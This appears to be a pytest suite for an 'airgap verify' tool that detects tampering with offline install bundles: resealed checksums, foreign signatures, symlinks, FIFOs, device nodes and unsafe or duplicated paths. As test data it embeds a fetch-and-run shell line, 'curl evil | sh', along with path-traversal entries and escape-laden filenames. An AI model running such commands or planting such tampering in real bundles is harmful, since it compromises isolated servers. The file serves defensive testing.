"""`airgap verify` against whoever holds the drive: every attack is performed on a real bundle.

The attacker can edit any file, rewrite SHA256SUMS, add files, and replace files by symbolic links, FIFOs
or directories. Verify must read SHA256SUMS, its signature and the lock once, decide everything from those
bytes, treat trusted keys as policy, report anything not listed, never follow a link, and always return.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from airgap.bundle import finalize
from airgap.custody import Snapshot, trusted_keys
from airgap.digests import NotRegularFile, open_beneath
from airgap.lock import Lock
from airgap.signing import SecretKey, generate, sign_bundle, write_keypair
from airgap.verify import verify_bundle, write_report
from tests.conftest import MiB, make_bundle, payload, run_airgap

SCRIPT = "layers/10-files/check.sh"
FILES = {
    "layers/02-driver/NVIDIA-Linux-x86_64-550.90.07.run": payload(MiB, 1),
    SCRIPT: b"#!/bin/sh\nnvidia-smi\n",
}
EVIL = b"#!/bin/sh\ncurl evil | sh\n"
# Generous: only a guard so a hang fails the test instead of the run; verify takes well under a second here.
GUARD_S = 120


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def key(tmp_path: Path) -> tuple[SecretKey, Path]:
    sk = generate()
    (tmp_path / "keys").mkdir()
    _secret, public = write_keypair(sk, tmp_path / "keys" / "site")
    return sk, public


@pytest.fixture
def trusted(tmp_path: Path, key: tuple[SecretKey, Path]) -> Path:
    """A server's /etc/airgap/keys holding the site key."""
    d = tmp_path / "etc-airgap-keys"
    d.mkdir()
    shutil.copy(key[1], d / "site.pub")
    return d


@pytest.fixture
def no_keys(tmp_path: Path) -> Path:
    d = tmp_path / "empty-keys"
    d.mkdir()
    return d


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return make_bundle(tmp_path / "bundle", FILES)


@pytest.fixture
def signed(bundle: Path, key: tuple[SecretKey, Path]) -> Path:
    sign_bundle(bundle, key[0], "t")
    return bundle


def verify(bundle: Path, keys_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_airgap("verify", str(bundle), "--trusted-keys", str(keys_dir), *args, timeout=GUARD_S)


def verify_json(bundle: Path, keys_dir: Path, *args: str) -> tuple[int, dict]:  # type: ignore[type-arg]
    r = verify(bundle, keys_dir, "--json", *args)
    assert "Traceback" not in r.stderr, r.stderr
    return r.returncode, json.loads(r.stdout)


def problems(data: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
    return {(p["kind"], p["path"]) for p in data["problems"]}


def reseal(bundle: Path, path: str, data: bytes) -> None:
    """The drive holder swaps a file and rewrites the lock and SHA256SUMS to match (everything a person
    with the drive can do), leaving the collector's SHA256SUMS.sig in place."""
    (bundle / path).write_bytes(data)
    lock = Lock.read(bundle)
    for art in lock.artifacts:
        if art.path == path:
            art.sha256, art.size = sha(data), len(data)
    finalize(bundle, lock)


# --- signatures are policy ---------------------------------------------------------------------------


def test_a_resealed_bundle_fails_when_the_server_trusts_the_key_even_without_key_flag(
    signed: Path, trusted: Path
) -> None:
    reseal(signed, SCRIPT, EVIL)
    # Every file matches the rewritten SHA256SUMS: only the signature can tell.
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=signed).returncode == 0
    code, data = verify_json(signed, trusted)  # no --key: the trusted key directory is enough
    assert code == 1
    assert problems(data) == {("signature", "SHA256SUMS.sig")}
    assert data["signature"]["status"] == "invalid" and data["signature"]["required"] is True
    assert "does not match SHA256SUMS" in data["signature"]["detail"]


def test_a_resealed_bundle_is_said_unchecked_when_no_key_is_trusted(signed: Path, no_keys: Path) -> None:
    reseal(signed, SCRIPT, EVIL)
    r = verify(signed, no_keys)
    assert r.returncode == 0  # the files match SHA256SUMS; nothing can say who wrote it
    assert "signature NOT checked" in r.stdout
    assert "no trusted key: pass --key or install it in" in r.stdout
    assert "signature: valid" not in r.stdout and "authentic" not in r.stdout
    assert "signed by a trusted key" not in r.stdout
    code, data = verify_json(signed, no_keys)
    assert code == 0 and data["signature"]["status"] == "unchecked"
    assert data["signature"]["trusted_comment"] == ""  # unchecked text is not shown as trusted


def test_the_intact_signed_bundle_is_valid_with_a_trusted_key(signed: Path, trusted: Path) -> None:
    r = verify(signed, trusted)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "signature: valid, key " in r.stdout
    assert "signed by a trusted key" in r.stdout


def test_an_unsigned_bundle_fails_when_a_key_is_trusted(signed: Path, trusted: Path, no_keys: Path) -> None:
    (signed / "SHA256SUMS.sig").unlink()
    code, data = verify_json(signed, trusted)
    assert code == 1 and problems(data) == {("signature", "SHA256SUMS.sig")}
    assert data["signature"]["status"] == "unsigned" and "not signed" in data["signature"]["detail"]
    code, data = verify_json(signed, no_keys)
    assert code == 0 and data["signature"]["status"] == "unsigned" and data["signature"]["required"] is False


def test_a_signature_by_another_key_is_refused_when_keys_are_trusted(
    bundle: Path, trusted: Path, no_keys: Path
) -> None:
    sign_bundle(bundle, generate(), "t")  # the attacker's own key
    code, data = verify_json(bundle, trusted)
    assert code == 1 and data["signature"]["status"] == "unchecked" and data["signature"]["required"] is True
    assert "not by a trusted key" in data["signature"]["detail"]
    code, data = verify_json(bundle, no_keys)
    assert code == 0 and data["signature"]["status"] == "unchecked"


def test_a_garbage_signature_fails_even_without_keys(signed: Path, no_keys: Path) -> None:
    (signed / "SHA256SUMS.sig").write_bytes(b"this is not minisign\n")
    code, data = verify_json(signed, no_keys)
    assert code == 1 and data["signature"]["status"] == "invalid"
    assert "not a minisign signature" in data["signature"]["detail"]


def test_a_broken_trust_store_is_named_not_taken_for_no_keys(bundle: Path, trusted: Path) -> None:
    (trusted / "broken.pub").write_text("not a key\n")
    r = verify(bundle, trusted)
    assert r.returncode == 2
    assert "broken.pub" in r.stderr and "Traceback" not in r.stderr


def test_a_fifo_in_the_trust_store_does_not_hang(bundle: Path, trusted: Path) -> None:
    os.mkfifo(trusted / "fifo.pub")
    r = verify(bundle, trusted)
    assert r.returncode == 2 and "FIFO" in r.stderr


# --- everything is listed ----------------------------------------------------------------------------


def test_files_added_anywhere_fail_even_with_a_valid_signature(signed: Path, trusted: Path) -> None:
    (signed / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (signed / "evil").mkdir()
    (signed / "evil/x").write_bytes(b"x")
    code, data = verify_json(signed, trusted, "--key", str(trusted / "site.pub"))
    assert code == 1
    assert data["signature"]["status"] == "valid"  # the signature holds: the additions are what fails
    assert problems(data) == {("unexpected", "install.sh"), ("unexpected", "evil/x")}


def test_os_litter_is_noted_never_read_and_does_not_fail(bundle: Path, no_keys: Path) -> None:
    for d in ("System Volume Information", "$RECYCLE.BIN", ".Trashes", ".Spotlight-V100", ".fseventsd"):
        (bundle / d).mkdir()
        (bundle / d / "IndexerVolumeGuid").write_bytes(b"x")
    (bundle / "lost+found").mkdir()
    # A FIFO inside: reading it would hang verify; litter is never opened, nor even walked.
    os.mkfifo(bundle / "System Volume Information" / "pipe")
    (bundle / "layers/10-files/._check.sh").write_bytes(b"\x00\x05\x16\x07AppleDouble")
    (bundle / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    code, data = verify_json(bundle, no_keys)
    assert code == 0, data["problems"]
    assert set(data["litter"]) == {
        "System Volume Information/",
        "$RECYCLE.BIN/",
        ".Trashes/",
        ".Spotlight-V100/",
        ".fseventsd/",
        "lost+found/",
        "layers/10-files/._check.sh",
        ".DS_Store",
    }
    assert any("left alone, not read" in n for n in data["notes"])
    r = verify(bundle, no_keys)
    assert r.returncode == 0 and "note: left alone, not read: " in r.stdout


def test_litter_names_in_the_wrong_place_or_of_the_wrong_kind_are_unexpected(
    bundle: Path, no_keys: Path, tmp_path: Path
) -> None:
    (bundle / "layers/.Trashes").mkdir()  # volume folders only at the top of a drive
    (bundle / "layers/.Trashes/payload").write_bytes(b"x")
    os.symlink(tmp_path, bundle / "lost+found")  # a link is never litter
    code, data = verify_json(bundle, no_keys)
    assert code == 1
    assert problems(data) == {("unexpected", "layers/.Trashes/payload"), ("unexpected", "lost+found")}


# --- never follow, never hang --------------------------------------------------------------------------


def test_a_symlink_to_an_outside_file_with_the_right_bytes_is_reported(
    bundle: Path, no_keys: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.sh"
    outside.write_bytes(FILES[SCRIPT])
    (bundle / SCRIPT).unlink()
    os.symlink(outside, bundle / SCRIPT)
    # coreutils follows the link and is satisfied: the attack is real.
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=bundle).returncode == 0
    code, data = verify_json(bundle, no_keys)
    assert code == 1
    (p,) = data["problems"]
    assert (p["kind"], p["path"]) == ("not-a-file", SCRIPT)
    assert f"a symbolic link to {str(outside)!r}" in p["detail"]


@pytest.mark.parametrize("replacement", ["fifo", "dev-zero"])
def test_readme_replaced_by_a_fifo_or_a_link_to_dev_zero_does_not_hang(
    bundle: Path, no_keys: Path, replacement: str
) -> None:
    readme = bundle / "README.txt"
    readme.unlink()
    if replacement == "fifo":
        os.mkfifo(readme)
    else:
        os.symlink("/dev/zero", readme)
    code, data = verify_json(bundle, no_keys)  # returns: a hang would trip the guard timeout
    assert code == 1
    (p,) = data["problems"]
    assert (p["kind"], p["path"]) == ("not-a-file", "README.txt")
    assert ("FIFO" if replacement == "fifo" else "symbolic link to '/dev/zero'") in p["detail"]


def test_readme_replaced_by_a_device_is_never_opened(bundle: Path, no_keys: Path) -> None:
    readme = bundle / "README.txt"
    readme.unlink()
    try:
        os.mknod(readme, 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero's numbers
    except PermissionError:
        pytest.skip("making a device node needs root")
    code, data = verify_json(bundle, no_keys)
    assert code == 1
    (p,) = data["problems"]
    assert (p["kind"], p["path"]) == ("not-a-file", "README.txt") and "character device" in p["detail"]


def test_a_file_swapped_after_the_walk_is_still_not_followed(bundle: Path, tmp_path: Path) -> None:
    """What hashing does when a local user swaps a path between the walk and the open: the open itself
    refuses links (also a link to a directory on the way) and FIFOs, without blocking."""
    os.mkfifo(tmp_path / "fifo")
    (bundle / "README.txt").unlink()
    os.symlink(tmp_path / "fifo", bundle / "README.txt")
    with pytest.raises(NotRegularFile) as link:
        open_beneath(bundle, "README.txt")
    assert link.value.what == "a symbolic link" and not link.value.within
    (bundle / "README.txt").unlink()
    os.mkfifo(bundle / "README.txt")
    with pytest.raises(NotRegularFile, match="FIFO"):
        open_beneath(bundle, "README.txt")
    shutil.move(bundle / "layers/10-files", tmp_path / "files")
    os.symlink(tmp_path / "files", bundle / "layers/10-files")
    with pytest.raises(NotRegularFile) as via:
        open_beneath(bundle, SCRIPT)
    assert via.value.within and via.value.path == "layers/10-files"


def test_the_lock_replaced_by_a_fifo_does_not_hang(bundle: Path, no_keys: Path) -> None:
    (bundle / "airgap.lock.json").unlink()
    os.mkfifo(bundle / "airgap.lock.json")
    code, data = verify_json(bundle, no_keys)
    assert code == 1 and ("not-a-file", "airgap.lock.json") in problems(data)


@pytest.mark.parametrize("name", ["SHA256SUMS", "SHA256SUMS.sig"])
def test_sums_or_signature_replaced_by_a_fifo_is_named(signed: Path, trusted: Path, name: str) -> None:
    (signed / name).unlink()
    os.mkfifo(signed / name)
    r = verify(signed, trusted)
    assert r.returncode == 1
    assert "FIFO" in r.stdout + r.stderr and "Traceback" not in r.stderr


def test_a_directory_symlink_in_layers_is_reported_and_not_followed(
    bundle: Path, no_keys: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(bundle / "layers/10-files", elsewhere)  # the right bytes, outside the bundle
    shutil.rmtree(bundle / "layers/10-files")
    os.symlink(elsewhere, bundle / "layers/10-files")
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=bundle).returncode == 0
    code, data = verify_json(bundle, no_keys)
    assert code == 1
    assert problems(data) == {("not-a-file", SCRIPT), ("unexpected", "layers/10-files")}
    detail = next(p["detail"] for p in data["problems"] if p["path"] == SCRIPT)
    assert "lies under layers/10-files, which is a symbolic link" in detail


def test_a_listed_path_that_is_a_directory_is_reported(bundle: Path, no_keys: Path) -> None:
    (bundle / SCRIPT).unlink()
    (bundle / SCRIPT).mkdir()
    code, data = verify_json(bundle, no_keys)
    assert code == 1 and problems(data) == {("not-a-file", SCRIPT)}


def test_a_file_name_with_terminal_escapes_is_shown_escaped(bundle: Path, no_keys: Path) -> None:
    (bundle / "evil\x1b[2J\u202etxt.sh").write_bytes(b"x")
    r = verify(bundle, no_keys)
    assert r.returncode == 1
    assert "\x1b" not in r.stdout + r.stderr and "\u202e" not in r.stdout + r.stderr
    assert "evil\\x1b[2J\\u202etxt.sh" in r.stdout


# --- SHA256SUMS is read the way coreutils reads it, and strictly -----------------------------------------


def test_a_path_listed_twice_is_refused(bundle: Path, no_keys: Path) -> None:
    # The old reader kept the last line: swap the file, append a line with its digest, and it passed.
    (bundle / SCRIPT).write_bytes(EVIL)
    with open(bundle / "SHA256SUMS", "a") as f:
        f.write(f"{sha(EVIL)}  {SCRIPT}\n")
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=bundle).returncode != 0
    r = verify(bundle, no_keys)
    assert r.returncode == 1
    assert f"'{SCRIPT}' is listed twice" in r.stderr and "Traceback" not in r.stderr


@pytest.mark.parametrize(
    ("line_path", "why"),
    [
        ("../outside.sh", "outside the bundle"),
        ("/etc/passwd", "an absolute path"),
        ("layers/./x", "not a plain relative path"),
        ("layers/a\u2028b", "U+2028"),
        ("layers/a\x0cb", "U+000C"),
        ("layers/a\x85b", "U+0085"),
        ("layers/a\x1cb", "U+001C"),
    ],
)
def test_unsafe_or_unreadable_paths_in_sums_are_refused(bundle: Path, no_keys: Path, line_path: str, why: str) -> None:
    with open(bundle / "SHA256SUMS", "ab") as f:
        f.write(f"{sha(b'x')}  {line_path}\n".encode())
    r = verify(bundle, no_keys)
    assert r.returncode == 1
    assert why in r.stderr and "SHA256SUMS:" in r.stderr and "Traceback" not in r.stderr


def test_a_backslash_escaped_line_means_what_it_means_to_coreutils(bundle: Path, no_keys: Path) -> None:
    # coreutils writes a name holding a backslash as "\<digest>  a\\b"; both readers find the file a\b.
    (bundle / "layers/10-files/a\\b").write_bytes(b"data")
    with open(bundle / "SHA256SUMS", "ab") as f:
        f.write(b"\\" + sha(b"data").encode() + b"  layers/10-files/a\\\\b\n")
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=bundle).returncode == 0
    assert Snapshot.read(bundle, []).sums["layers/10-files/a\\b"] == sha(b"data")
    code, data = verify_json(bundle, no_keys)
    assert code == 0, data["problems"]


# --- one read: decisions come from the snapshot's bytes --------------------------------------------------


def test_sums_rewritten_after_the_read_cannot_matter(signed: Path, trusted: Path, tmp_path: Path) -> None:
    snapshot = Snapshot.read(signed, trusted_keys(trusted))
    assert snapshot.signature.status == "valid"
    original = (signed / "SHA256SUMS").read_bytes()
    # Between the read and the hashing, a local user swaps a file and rewrites SHA256SUMS (and the lock) to
    # match: a second read of SHA256SUMS would see a consistent, forged bundle.
    reseal(signed, SCRIPT, EVIL)
    assert (signed / "SHA256SUMS").read_bytes() != original
    report = verify_bundle(snapshot)
    assert not report.ok
    assert ("altered", SCRIPT) in {(p.kind, p.path) for p in report.problems}
    # The evidence names the bytes the verdict was made on, not what is on disk now.
    evidence = tmp_path / "evidence.json"
    write_report(report, evidence)
    data = json.loads(evidence.read_text())
    assert data["sha256sums_sha256"] == sha(original) == snapshot.sums_sha256
    assert data["signature"]["status"] == "valid"


def test_a_lock_replaced_after_the_read_is_not_used(bundle: Path) -> None:
    snapshot = Snapshot.read(bundle, [])
    lock_path = bundle / "airgap.lock.json"
    forged = lock_path.read_bytes().replace(b"https://example.com/", b"https://evil.example/")
    lock_path.write_bytes(forged)
    assert snapshot.require_lock().artifacts[0].url.startswith("https://example.com/")
    report = verify_bundle(snapshot)
    # Judged on the bytes read once, which match SHA256SUMS: the swapped file on disk is never read again.
    assert report.ok, report.problems
    assert report.lock_sha256 == snapshot.lock_sha256 != sha(forged)
    # A fresh read sees the swap.
    fresh = Snapshot.read(bundle, [])
    assert fresh.lock is None and "does not match its SHA256SUMS line" in fresh.lock_problem
    assert ("altered", "airgap.lock.json") in {(p.kind, p.path) for p in verify_bundle(fresh).problems}


def test_a_lock_that_does_not_match_its_line_is_never_parsed(bundle: Path) -> None:
    (bundle / "airgap.lock.json").write_bytes(b'{"name": ' * 100000)  # would be a parse bomb, if parsed
    snapshot = Snapshot.read(bundle, [])
    assert snapshot.lock is None and "does not match" in snapshot.lock_problem
    with pytest.raises(Exception, match="does not match"):
        snapshot.require_lock()


def test_a_damaged_lock_fails_verify_even_with_sha256sums_rewritten_to_match(bundle: Path, no_keys: Path) -> None:
    """A lock install cannot read is not an intact bundle, whatever SHA256SUMS says about its bytes."""
    garbage = b"\0" * 4096
    (bundle / "airgap.lock.json").write_bytes(garbage)
    sums = (bundle / "SHA256SUMS").read_text().splitlines()
    sums = [f"{sha(garbage)}  airgap.lock.json" if line.endswith("  airgap.lock.json") else line for line in sums]
    (bundle / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    rc, data = verify_json(bundle, no_keys)
    assert rc == 1
    assert ("altered", "airgap.lock.json") in problems(data)
